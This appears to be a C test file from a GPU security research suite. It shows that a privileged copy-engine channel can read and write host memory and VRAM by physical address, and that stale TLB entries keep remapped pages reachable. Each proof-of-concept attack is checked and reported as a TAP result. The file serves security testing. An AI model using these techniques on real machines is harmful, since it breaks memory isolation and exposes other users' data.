// SPDX-License-Identifier: GPL-2.0-only
/*
 * Copies by physical address, which one bit of RAMFC allows, and translations that the chip keeps
 * as long as they are not invalidated.
 */
#include "attacks.h"

#include <linux/bitfield.h>

#include <gk110/ce.h>
#include <gk110/fifo.h>
#include <gk110/push.h>

#include "bare/chan.h"
#include "pattern.h"
#include "tap.h"

enum { RUN_MS = 60000, REFUSED_MS = 300, BYTES = 512 };

static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c,
			 unsigned int id, bool hce_priv)
{
	struct bare_chan_config cfg = { .id = id,
					.runlist = g->engine[BARE_CE0].runlist,
					.hce_priv = hce_priv };
	uint32_t entry = id;

	bare_space_create(g, s);
	bare_chan_create(g, s, &cfg, c);
	bare_runlist(g, cfg.runlist, &entry, 1);
}

static void close_channel(struct bare_chan *c)
{
	bare_runlist(c->g, c->runlist, NULL, 0);
	bare_chan_destroy(c);
}

static void emit_physical(struct bare_chan *c, uint64_t src, uint32_t src_target, uint64_t dst,
			  uint32_t dst_target)
{
	bare_emit(c, SUBCH_COPY, HOST_SET_OBJECT, A0B5_CLASS);
	bare_emit(c, SUBCH_COPY, A0B5_SET_SRC_PHYS_MODE, src_target, dst_target);
	bare_copy(c, src, dst, BYTES, A0B5_LAUNCH_SRC_PHYSICAL | A0B5_LAUNCH_DST_PHYSICAL);
}

/* Return the PBDMA that reports a privilege violation; -1: none does. */
static int refused_by(struct bare_gpu *g)
{
	uint32_t enabled = bare_read(g, PFIFO_PBDMA_INTR_SOURCE);
	int p;

	for (p = 0; p < 3; p++)
		if (enabled >> p & 1 && bare_read(g, PBDMA(p) + PBDMA_INTR1) & PBDMA_INTR1_PRIV)
			return p;
	return -1;
}

static void refused_without_privilege(struct bare_gpu *g, uint64_t secret_bus, uint8_t *secret)
{
	uint64_t loot_bus;
	uint8_t *loot = bare_host(g, 4096, &loot_bus);
	struct bare_space s;
	struct bare_chan c;
	bool ran;
	int p;

	pattern_fill(secret, BYTES, 5);
	open_channel(g, &s, &c, 5, false);
	emit_physical(&c, secret_bus, A0B5_PHYS_COHERENT, loot_bus, A0B5_PHYS_COHERENT);
	ran = bare_run(&c, REFUSED_MS);
	p = refused_by(g);
	tap_result(!ran && p >= 0 && loot[0] == 0 && loot[BYTES - 1] == 0,
		   "without HCE_PRIV_MODE a physical copy is refused by the host unit",
		   "PBDMA %d, channel %d", p,
		   p < 0 ? -1 :
			   (int)FIELD_GET(PBDMA_CHANNEL_ID,
					  bare_read(g, PBDMA(p) + PBDMA_CHANNEL)));
	bare_write(g, PCCSR_CHAN(c.id),
		   FIELD_PREP(PCCSR_CHAN_RUNLIST, c.runlist) | PCCSR_CHAN_ENABLE_CLR);
	if (p >= 0)
		bare_write(g, PBDMA(p) + PBDMA_INTR1, ~0u);
	close_channel(&c);
}

void attack_physical(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	uint64_t secret_bus, loot_bus, vram = 0x120000000ull;
	uint8_t *secret = secret_page(&secret_bus), *loot = bare_host(g, 4096, &loot_bus);
	uint32_t text[BYTES / 4];
	struct bare_space s;
	struct bare_chan c;
	bool ran;

	open_channel(g, &s, &c, 4, true);
	pattern_fill(secret, BYTES, 4);
	emit_physical(&c, secret_bus, A0B5_PHYS_COHERENT, loot_bus, A0B5_PHYS_NONCOHERENT);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(loot, secret, BYTES),
		   "attack works: with HCE_PRIV_MODE the copy engine reads host memory"
		   " by physical address",
		   "channel ran: %d", ran);
	memset(loot, 0x3d, BYTES);
	emit_physical(&c, loot_bus, A0B5_PHYS_COHERENT, secret_bus + 2048, A0B5_PHYS_COHERENT);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(loot, secret + 2048, BYTES), "attack works: ... and writes it",
		   NULL);
	pattern_fill(text, sizeof(text), 6);
	bare_mem_write(g, BARE_VRAM, vram, text, sizeof(text));
	emit_physical(&c, vram, A0B5_PHYS_LOCAL_FB, loot_bus, A0B5_PHYS_COHERENT);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(loot, text, BYTES), "attack works: ... and any VRAM", NULL);
	close_channel(&c);
	refused_without_privilege(g, secret_bus, secret);
}

/* ------------------------------------------------------------------ translations */

struct remapped {
	struct bare_space s;
	struct bare_chan c;
	uint8_t *old_page, *new_page, *loot;
	uint64_t new_bus;
};

enum { PAGE_VA = BARE_VA_FREE, LOOT_VA = BARE_VA_FREE + 0x1000 };

/* Return true when the copy engine reads the contents of @page at PAGE_VA. */
static bool sees(struct remapped *r, const uint8_t *page)
{
	memset(r->loot, 0, BYTES);
	bare_copy(&r->c, PAGE_VA, LOOT_VA, BYTES, 0);
	return bare_run(&r->c, RUN_MS) && !memcmp(r->loot, page, BYTES);
}

static void open_remapped(struct bare_gpu *g, struct remapped *r, unsigned int id)
{
	uint64_t old_bus, loot_bus;

	open_channel(g, &r->s, &r->c, id, false);
	r->old_page = bare_host(g, 4096, &old_bus);
	r->new_page = bare_host(g, 4096, &r->new_bus);
	r->loot = bare_host(g, 4096, &loot_bus);
	pattern_fill(r->old_page, BYTES, 1);
	pattern_fill(r->new_page, BYTES, 2);
	bare_space_map(g, &r->s, PAGE_VA, BARE_HOST, old_bus);
	bare_space_map(g, &r->s, LOOT_VA, BARE_HOST, loot_bus);
	bare_tlb_invalidate(g, BARE_VRAM, r->s.pdb);
}

static void emit_invalidate(struct bare_chan *c, uint64_t pdb)
{
	bare_emit(c, SUBCH_COPY, HOST_MEM_OP_A, FIELD_PREP(HOST_MEM_OP_TLB_ADDR, pdb >> 12),
		  FIELD_PREP(HOST_MEM_OP_OPERATION, HOST_MEM_OP_TLB_INVALIDATE));
}

void attack_stale(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	struct remapped r;
	bool before;

	open_remapped(g, &r, 6);
	before = sees(&r, r.old_page);
	bare_space_map(g, &r.s, PAGE_VA, BARE_HOST, r.new_bus);
	bare_flush(g);
	tap_result(before && sees(&r, r.old_page),
		   "attack works: a page taken away stays reachable until the TLB is invalidated",
		   "first copy right: %d", before);
	bare_tlb_invalidate(g, BARE_VRAM, r.s.pdb);
	tap_result(sees(&r, r.new_page), "after an invalidate by register the new page is seen",
		   NULL);
	close_channel(&r.c);

	open_remapped(g, &r, 7);
	before = sees(&r, r.old_page);
	bare_space_map(g, &r.s, PAGE_VA, BARE_HOST, r.new_bus);
	bare_flush(g);
	emit_invalidate(&r.c, r.s.pdb);
	tap_result(
		before && sees(&r, r.new_page),
		"attack works: a channel invalidates a TLB by MEM_OP, without any register access",
		NULL);
	close_channel(&r.c);
}
